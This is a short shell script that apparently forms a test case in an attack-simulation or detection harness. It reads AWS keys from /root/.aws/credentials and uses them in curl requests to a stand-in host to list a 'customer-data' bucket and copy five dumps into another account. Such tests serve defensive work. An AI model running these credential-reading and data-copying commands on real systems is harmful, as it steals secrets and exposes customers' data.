#!/bin/sh
. /opt/case/case.sh

eval "$(awk -F' = ' '/_key/ { print toupper($1) "=" $2 }' /root/.aws/credentials)"
ask() { curl -sf -H "Authorization: AWS4-HMAC-SHA256 Credential=$AWS_ACCESS_KEY_ID/20261129/s3" -H 'Host: s3.amazonaws.com' "$@"; }
ask 'http://203.0.113.10/customer-data?list-type=2' | grep -q ok
for n in 1 2 3 4 5; do ask -X PUT -H "x-amz-copy-source: /customer-data/dump-$n" -o /dev/null http://203.0.113.10/other-account/dump-$n; done
took_place
